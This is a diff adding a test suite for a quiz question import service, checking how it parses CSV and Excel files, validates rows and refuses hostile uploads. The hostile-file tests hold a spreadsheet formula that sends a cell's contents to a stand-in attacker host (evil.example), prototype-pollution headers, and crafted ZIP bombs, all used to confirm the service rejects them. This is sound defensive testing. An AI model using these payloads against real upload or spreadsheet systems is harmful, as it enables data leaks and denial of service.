@@ -1,0 +1,397 @@
+// The import service called directly: formats, every row rule, all-or-nothing, hostile files.
+import zlib from 'node:zlib';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import type { DB } from '../../../db/client';
+import { HEADERS, MAX_ROWS } from '../../../shared/domain/questionFormat';
+import { importQuestions, type ImportRequest } from './importQuestions';
+import {
+  countQuestions,
+  countSets,
+  csvFile,
+  goodRows,
+  makeCatalog,
+  questionRow,
+  tempDb,
+  workbookFile,
+  type Catalog,
+} from './testFixtures';
+
+let db: DB;
+let close: () => Promise<void>;
+let cat: Catalog;
+beforeEach(async () => {
+  ({ db, close } = await tempDb());
+  cat = await makeCatalog(db);
+});
+afterEach(async () => {
+  await close();
+});
+
+function practice(file_name: string, bytes: Buffer, extra: Partial<ImportRequest> = {}): ImportRequest {
+  return {
+    file_name,
+    bytes,
+    quiz_type: 'practice',
+    program_id: cat.programId,
+    paper_id: cat.paperId,
+    topic_id: cat.topicId,
+    ...extra,
+  };
+}
+
+/** A minimal ZIP (stored or deflated parts) whose central directory says what we tell it to. */
+function zipOf(entries: Array<{ name: string; data: Buffer; method: 0 | 8; declared: number }>): Buffer {
+  const locals: Buffer[] = [];
+  const centrals: Buffer[] = [];
+  let offset = 0;
+  for (const e of entries) {
+    const name = Buffer.from(e.name);
+    const local = Buffer.alloc(30);
+    local.writeUInt32LE(0x04034b50, 0);
+    local.writeUInt16LE(20, 4);
+    local.writeUInt16LE(e.method, 8);
+    local.writeUInt32LE(e.data.length, 18);
+    local.writeUInt32LE(e.declared, 22);
+    local.writeUInt16LE(name.length, 26);
+    const central = Buffer.alloc(46);
+    central.writeUInt32LE(0x02014b50, 0);
+    central.writeUInt16LE(20, 4);
+    central.writeUInt16LE(20, 6);
+    central.writeUInt16LE(e.method, 10);
+    central.writeUInt32LE(e.data.length, 20);
+    central.writeUInt32LE(e.declared, 24);
+    central.writeUInt16LE(name.length, 28);
+    central.writeUInt32LE(offset, 42);
+    locals.push(local, name, e.data);
+    centrals.push(central, name);
+    offset += local.length + name.length + e.data.length;
+  }
+  const cd = Buffer.concat(centrals);
+  const eocd = Buffer.alloc(22);
+  eocd.writeUInt32LE(0x06054b50, 0);
+  eocd.writeUInt16LE(entries.length, 8);
+  eocd.writeUInt16LE(entries.length, 10);
+  eocd.writeUInt32LE(cd.length, 12);
+  eocd.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, cd, eocd]);
+}
+
+describe('good files', () => {
+  it('imports a .csv into a new practice set titled from the file name, in file order', async () => {
+    const answer = await importQuestions(db, practice('Vital signs 1.csv', csvFile(goodRows(12))));
+    expect(answer).toMatchObject({ success: true, error: null, total_questions: 12 });
+    expect(answer.set).toMatchObject({ type: 'practice', title: 'Vital signs 1', total_questions: 12 });
+    const set = await db.selectFrom('practice_sets').selectAll().executeTakeFirstOrThrow();
+    expect(set).toMatchObject({ id: answer.set?.id, topic_id: cat.topicId, title: 'Vital signs 1' });
+    const rows = await db.selectFrom('questions').selectAll().orderBy('position').execute();
+    expect(rows).toHaveLength(12);
+    expect(rows.map((r) => r.position)).toEqual(Array.from({ length: 12 }, (_, i) => i + 1));
+    expect(rows[0]).toMatchObject({
+      practice_set_id: set.id,
+      mock_exam_set_id: null,
+      question_text: 'Question number 1: which option is right?',
+      option_c: 'Option C1',
+      correct_answer: 'B',
+      explanation: 'Because 1.',
+      text_key: 'question number 1 which option is right',
+    });
+  });
+
+  it('imports an .xlsx and an .xls (Excel 97-2003) workbook', async () => {
+    const x = await importQuestions(db, practice('set-a.xlsx', workbookFile(goodRows(7))));
+    expect(x.set?.total_questions).toBe(7);
+    const old = await importQuestions(db, practice('set-b.xls', workbookFile(goodRows(5), 'biff8')));
+    expect(old.set?.total_questions).toBe(5);
+    expect(await countQuestions(db)).toBe(12);
+  });
+
+  it('creates a mock exam set under the paper with the given title and time limit (default 60)', async () => {
+    const mock = { quiz_type: 'mock' as const, topic_id: undefined };
+    const a = await importQuestions(
+      db,
+      practice('m.csv', csvFile(goodRows(3)), { ...mock, title: 'Mock 1', time_limit_minutes: 45 }),
+    );
+    const b = await importQuestions(db, practice('Mock 2.csv', csvFile(goodRows(3)), mock));
+    expect(a.set).toMatchObject({ type: 'mock', title: 'Mock 1' });
+    const sets = await db.selectFrom('mock_exam_sets').selectAll().orderBy('id').execute();
+    expect(sets.map((s) => [s.paper_id, s.title, s.time_limit_minutes])).toEqual([
+      [cat.paperId, 'Mock 1', 45],
+      [cat.paperId, 'Mock 2', 60],
+    ]);
+    expect(b.warnings).toHaveLength(3);
+    const q = await db
+      .selectFrom('questions')
+      .selectAll()
+      .where('mock_exam_set_id', '=', sets[0].id)
+      .execute();
+    expect(q).toHaveLength(3);
+  });
+
+  it('accepts headers in any case and order with spaces, skips blank rows, and numbers rows as the sheet does', async () => {
+    const rows = goodRows(2);
+    rows[0] = rows[0].map((h) => ` ${h.toUpperCase()} `).reverse();
+    rows[1] = [...rows[1]].reverse();
+    rows[2] = [...rows[2]].reverse();
+    rows.splice(2, 0, ['', '', '', '', '', '', '']);
+    const answer = await importQuestions(db, practice('x.csv', csvFile(rows), { dry_run: true }));
+    expect(answer.success).toBe(true);
+    expect(answer.preview?.map((p) => [p.row, p.correct_answer])).toEqual([
+      [2, 'B'],
+      [4, 'C'],
+    ]);
+  });
+
+  it('a dry run answers with a preview and writes nothing', async () => {
+    const answer = await importQuestions(
+      db,
+      practice('dry.xlsx', workbookFile(goodRows(8)), { dry_run: true }),
+    );
+    expect(answer).toMatchObject({ success: true, dry_run: true, total_questions: 8 });
+    expect(answer.set).toBeUndefined();
+    expect(answer.preview).toHaveLength(5);
+    expect(answer.message).toMatch(/Nothing was saved/);
+    expect(await countQuestions(db)).toBe(0);
+    expect(await countSets(db)).toBe(0);
+  });
+
+  it('warns about questions already in the bank and repeated within the file, and still imports them', async () => {
+    await importQuestions(db, practice('first.csv', csvFile(goodRows(2))));
+    const rows = goodRows(3);
+    rows[1][0] = '  QUESTION number 1 -- which option is RIGHT ';
+    rows.push([...rows[3]]);
+    const answer = await importQuestions(db, practice('second.csv', csvFile(rows)));
+    expect(answer.success).toBe(true);
+    expect(answer.warnings).toEqual([
+      'Row 5 repeats the question of row 4.',
+      'Row 2: this question is already in the bank (it will be added again).',
+      'Row 3: this question is already in the bank (it will be added again).',
+    ]);
+    expect(await countQuestions(db)).toBe(6);
+  });
+});
+
+describe('broken files: every failing row listed, nothing written', () => {
+  it('lists each bad row with its number, column and reason', async () => {
+    await importQuestions(db, practice('ok.csv', csvFile(goodRows(2))));
+    const rows = goodRows(6);
+    rows[1][5] = 'E';
+    rows[2][3] = '   ';
+    rows[3][5] = 'b';
+    rows[4][0] = 'x'.repeat(2001);
+    rows[5][5] = '';
+    const answer = await importQuestions(db, practice('broken.csv', csvFile(rows)));
+    expect(answer).toMatchObject({
+      success: false,
+      error_code: 'bad_rows',
+      error: '5 rows of the file have problems; nothing was saved.',
+    });
+    expect(answer.row_errors).toEqual([
+      {
+        row: 2,
+        column: 'correct_answer',
+        reason: 'correct_answer must be exactly A, B, C or D (found "E").',
+      },
+      { row: 3, column: 'option_c', reason: 'option_c is empty.' },
+      {
+        row: 4,
+        column: 'correct_answer',
+        reason: 'correct_answer must be a capital letter: write "B", not "b".',
+      },
+      { row: 5, column: 'question_text', reason: 'question_text is 2001 characters long (limit 2000).' },
+      { row: 6, column: 'correct_answer', reason: 'correct_answer is empty: write A, B, C or D.' },
+    ]);
+    expect(answer.required_format.join(' ')).toMatch(
+      /question_text, option_a, option_b, option_c, option_d, correct_answer, explanation/,
+    );
+    expect(answer.help).toMatch(/template/);
+    expect(await countQuestions(db)).toBe(2);
+    expect(await countSets(db)).toBe(1);
+  });
+
+  it('reports missing, unknown and repeated headers precisely', async () => {
+    const rows = goodRows(2);
+    rows[0] = ['question', 'option_a', 'option_b', 'option_c', 'option_c', 'correct_answer', 'explanation'];
+    const answer = await importQuestions(db, practice('h.csv', csvFile(rows)));
+    expect(answer.error_code).toBe('bad_header');
+    expect(answer.row_errors).toEqual([
+      { row: 1, column: 'question', reason: expect.stringMatching(/^Unknown column "question"/) },
+      { row: 1, column: 'option_c', reason: 'The column "option_c" appears more than once.' },
+      { row: 1, column: 'question_text', reason: 'Missing column "question_text".' },
+      { row: 1, column: 'option_d', reason: 'Missing column "option_d".' },
+    ]);
+    expect(await countSets(db)).toBe(0);
+  });
+
+  it('treats __proto__ and constructor headers as unknown columns and leaves Object.prototype alone', async () => {
+    const rows = goodRows(2).map((r) => [...r, 'polluted']);
+    rows[0][7] = '__proto__';
+    rows.forEach((r) => r.push('x'));
+    rows[0][8] = 'constructor';
+    const answer = await importQuestions(db, practice('p.csv', csvFile(rows)));
+    expect(answer.error_code).toBe('bad_header');
+    expect(answer.row_errors?.map((e) => e.column)).toEqual(['__proto__', 'constructor']);
+    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+    expect(Object.prototype.toString.call({})).toBe('[object Object]');
+    expect(await countQuestions(db)).toBe(0);
+  });
+
+  it('stores formula-looking CSV text as text, and refuses real formula cells in a workbook', async () => {
+    const rows = goodRows(2);
+    rows[1][0] = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+    rows[1][1] = '=1+1';
+    rows[1][2] = '+SUM(A1:A2)';
+    rows[1][3] = '@cmd';
+    const csv = await importQuestions(db, practice('f.csv', csvFile(rows)));
+    expect(csv.success).toBe(true);
+    const stored = await db.selectFrom('questions').selectAll().orderBy('id').executeTakeFirstOrThrow();
+    expect([stored.question_text, stored.option_a, stored.option_b, stored.option_c]).toEqual(
+      rows[1].slice(0, 4),
+    );
+
+    const before = await countQuestions(db);
+    const sheetRows: Array<Array<string | { t: 'n' | 's'; f: string; v: number | string }>> = goodRows(2);
+    sheetRows[2] = [...goodRows(2)[2]];
+    sheetRows[2][1] = { t: 'n', f: '1+1', v: 2 };
+    sheetRows[2][0] = { t: 's', f: 'HYPERLINK("http://evil.example","Click")', v: 'Click' };
+    const xlsx = await importQuestions(db, practice('formulas.xlsx', workbookFile(sheetRows)));
+    expect(xlsx.error_code).toBe('bad_rows');
+    expect(xlsx.row_errors).toEqual([
+      {
+        row: 3,
+        column: 'question_text',
+        reason: 'The cell holds a formula; type the text itself (formulas are not accepted).',
+      },
+      {
+        row: 3,
+        column: 'option_a',
+        reason: 'The cell holds a formula; type the text itself (formulas are not accepted).',
+      },
+    ]);
+    expect(await countQuestions(db)).toBe(before);
+  });
+
+  it('refuses a huge cell as a row error', async () => {
+    const rows = goodRows(3);
+    rows[2][6] = 'y'.repeat(1_000_000);
+    const answer = await importQuestions(db, practice('big.csv', csvFile(rows)));
+    expect(answer.row_errors).toEqual([
+      { row: 3, column: 'explanation', reason: 'explanation is 1000000 characters long (limit 3000).' },
+    ]);
+    expect(await countQuestions(db)).toBe(0);
+  });
+
+  it(`refuses more than ${MAX_ROWS} rows, and accepts a 10,000-question file`, async () => {
+    const header = [...HEADERS];
+    const many = [header, ...Array.from({ length: MAX_ROWS + 1 }, () => ['q', 'a', 'b', 'c', 'd', 'A', ''])];
+    const tooMany = await importQuestions(db, practice('many.csv', csvFile(many)));
+    expect(tooMany).toMatchObject({ success: false, error_code: 'too_many_rows' });
+    expect(tooMany.error).toMatch(/more than 20,000 rows/);
+    expect(await countQuestions(db)).toBe(0);
+
+    const bank = await importQuestions(db, practice('bank.xlsx', workbookFile(goodRows(10_000))));
+    expect(bank.set?.total_questions).toBe(10_000);
+    expect(await countQuestions(db)).toBe(10_000);
+  }, 60_000);
+
+  it('refuses an empty file, a header-only file and a file over 5 MB', async () => {
+    expect((await importQuestions(db, practice('e.csv', Buffer.alloc(0)))).error_code).toBe('no_file');
+    expect((await importQuestions(db, practice('h.csv', csvFile([[...HEADERS]])))).error_code).toBe('empty');
+    const big = await importQuestions(db, practice('big.csv', Buffer.alloc(5 * 1024 * 1024 + 1, 'a')));
+    expect(big).toMatchObject({ error_code: 'file_too_large' });
+    expect(big.error).toMatch(/limit is 5 MB/);
+  });
+});
+
+describe('files that are not spreadsheets', () => {
+  const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex');
+
+  it('refuses a PNG renamed .xlsx or .csv, and a .txt or .json file', async () => {
+    const asXlsx = await importQuestions(db, practice('photo.xlsx', png));
+    expect(asXlsx).toMatchObject({ success: false, error_code: 'not_a_spreadsheet' });
+    expect(asXlsx.error).toBe(
+      '"photo.xlsx" is not an Excel workbook (it is a PNG image). Upload the template saved as .xlsx, .xls or .csv.',
+    );
+    expect((await importQuestions(db, practice('photo.csv', png))).error).toMatch(
+      /is not a text CSV file \(it is a PNG image\)/,
+    );
+    expect((await importQuestions(db, practice('q.txt', csvFile(goodRows(1))))).error).toMatch(
+      /not an accepted file type/,
+    );
+    expect(await countSets(db)).toBe(0);
+  });
+
+  it('refuses a damaged workbook with a clear error', async () => {
+    const broken = workbookFile(goodRows(3)).subarray(0, 200);
+    const answer = await importQuestions(db, practice('cut.xlsx', broken));
+    expect(answer.error_code).toBe('unsafe_file');
+    expect(answer.error).toMatch(/not a valid \.xlsx workbook/);
+  });
+
+  it('refuses a zip bomb by its declared size before parsing', async () => {
+    const bomb = zipOf([
+      {
+        name: 'xl/worksheets/sheet1.xml',
+        data: zlib.deflateRawSync(Buffer.alloc(1024)),
+        method: 8,
+        declared: 0x7fffffff,
+      },
+    ]);
+    const answer = await importQuestions(db, practice('bomb.xlsx', bomb));
+    expect(answer).toMatchObject({ success: false, error_code: 'unsafe_file' });
+    expect(answer.error).toMatch(/more than 100 MB; this looks like a zip bomb/);
+  });
+
+  it('refuses a zip bomb that lies about its size', async () => {
+    const data = zlib.deflateRawSync(Buffer.alloc(20 * 1024 * 1024));
+    const bomb = zipOf([
+      { name: '[Content_Types].xml', data: Buffer.from('<Types/>'), method: 0, declared: 8 },
+      { name: 'xl/worksheets/sheet1.xml', data, method: 8, declared: 1000 },
+    ]);
+    const answer = await importQuestions(db, practice('liar.xlsx', bomb));
+    expect(answer.error).toMatch(/unpacks to more than it declares/);
+    expect(await countSets(db)).toBe(0);
+  });
+
+  it('stops a parse that runs past the time limit', async () => {
+    const answer = await importQuestions(db, practice('slow.xlsx', workbookFile(goodRows(3000))), {
+      parseTimeoutMs: 1,
+    });
+    expect(answer).toMatchObject({ success: false, error_code: 'unreadable' });
+    expect(answer.error).toMatch(/took longer than 0 seconds/);
+  });
+});
+
+describe('placement and request fields', () => {
+  it('refuses a topic of another paper, a paper of another program, a practice set without topic, a taken title', async () => {
+    const file = csvFile(goodRows(1));
+    expect((await importQuestions(db, practice('a.csv', file, { paper_id: cat.otherPaperId }))).error).toBe(
+      'The chosen topic does not belong to the chosen paper.',
+    );
+    expect((await importQuestions(db, practice('a.csv', file, { program_id: 999 }))).error).toBe(
+      'There is no program with id 999.',
+    );
+    expect((await importQuestions(db, practice('a.csv', file, { topic_id: null }))).error).toMatch(
+      /Choose a topic/,
+    );
+    expect(
+      (await importQuestions(db, practice('a.csv', file, { quiz_type: 'exam' as never }))).error_code,
+    ).toBe('bad_input');
+    expect(
+      (await importQuestions(db, practice('a.csv', file, { quiz_type: 'mock', time_limit_minutes: 601 })))
+        .error,
+    ).toMatch(/1 to 600 minutes/);
+    await importQuestions(db, practice('a.csv', file));
+    const again = await importQuestions(db, practice('a.csv', file));
+    expect(again).toMatchObject({ error_code: 'title_taken' });
+    expect(await countQuestions(db)).toBe(1);
+  });
+
+  it('keeps row numbers right when a bad row follows quoted line breaks', async () => {
+    const rows = goodRows(3);
+    rows[1][0] = 'Line one\nline two';
+    rows[3][5] = 'Z';
+    const answer = await importQuestions(db, practice('nl.csv', csvFile(rows)));
+    expect(answer.row_errors).toEqual([{ row: 4, column: 'correct_answer', reason: expect.any(String) }]);
+    expect(questionRow(1)).toHaveLength(7);
+  });
+});
